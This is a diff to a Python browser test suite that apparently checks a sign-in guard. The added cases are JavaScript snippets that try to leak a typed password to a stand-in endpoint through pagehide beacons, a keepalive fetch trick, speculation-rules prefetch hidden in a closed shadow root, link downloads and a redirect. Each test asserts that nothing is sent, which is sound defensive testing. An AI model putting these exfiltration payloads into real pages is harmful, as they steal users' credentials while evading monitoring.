@@ -37,11 +37,30 @@ CARRIED = {
     "a picture": f"new Image().src = '{CLOSE}?password=' + p; await wait(500)",
     "a frame": f"const i = document.createElement('iframe'); i.src = '{CLOSE}?password=' + p; document.body.append(i); await wait(500)",
 }  # fmt: skip
+LEAVES = (
+    "const password = p; document.open(); document.write(`<script>addEventListener('pagehide', () => tell(), true);"
+    "onunload = () => tell()</${''}script>`); document.close(); addEventListener('pagehide', () => tell(), true);"
+    "window.tell = () => { SENDS }; await wait(200)"
+)
+RULES = (
+    "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({prefetch: [{source: 'list', eagerness: 'immediate',"
+    f"urls: ['{CLOSE}?p=' + p]}}]}}); PLACE.append(s); await wait(800)"
+)
 UNKNOWN = {
     "a beacon when the page is left": f"addEventListener('pagehide', () => navigator.sendBeacon('{CLOSE}', p))",
     "a request that outlives the page": f"addEventListener('pagehide', () => fetch('{CLOSE}', {{method: 'POST', body: p, keepalive: true}}))",
     "changed bytes": f"await fetch('{CLOSE}', {{method: 'POST', body: new Uint8Array([...p].map((c) => c.charCodeAt(0) ^ 1))}})",
     "changed bytes in the query of a GET": f"await fetch('{CLOSE}?p=' + [...p].map((c) => c.charCodeAt(0) ^ 1))",
+    "a picture when a document that was opened anew is left": LEAVES.replace("SENDS", f"new Image().src = '{CLOSE}?p=' + password"),
+    "a request when a document that was opened anew is left": LEAVES.replace(
+        "SENDS", f"let n = 0; fetch('{CLOSE}', {{method: 'POST', body: password, get keepalive() {{ return n++ > 0 }}}})"
+    ),
+    "rules to load ahead": RULES.replace("PLACE", "document.head"),
+    "rules to load ahead in a shadow tree": RULES.replace(
+        "PLACE", "document.body.appendChild(document.createElement('div')).attachShadow({mode: 'closed'})"
+    ),
+    "a download": f"const a = document.createElement('a'); a.download = 'x'; a.href = '{CLOSE}?p=' + p; document.body.append(a); a.click(); await wait(500)",
+    "a download of a link in no document": "const a = document.createElement('a'); a.download = 'x'; a.href = '/moved?p=' + p; a.click(); await wait(500)",
     "a shared worker": "new SharedWorker('/shared.js').port.postMessage(p); await wait(800)",
 }  # fmt: skip
 
@@ -63,6 +82,7 @@ async def test_a_password_on_its_way_to_a_deed_ends_the_sign_in(browser: Browser
 @pytest.mark.parametrize("does", UNKNOWN.values(), ids=UNKNOWN)
 async def test_what_names_a_deed_is_not_sent_whatever_it_carries(browser: Browser, does: str) -> None:
     pages = {"/": PAGE.replace("DOES", does), "/home": HOME, "/shared.js": SHARED, "*": "{}"}
+    pages["/moved"] = Answer("", status=302, headers={"Location": f"{CLOSE}?p=x"})
     with small_site(pages) as site:
         await sign_in_by_form(browser, f"{site.url}/", MEMBER)
         assert closings(site.asked) == []
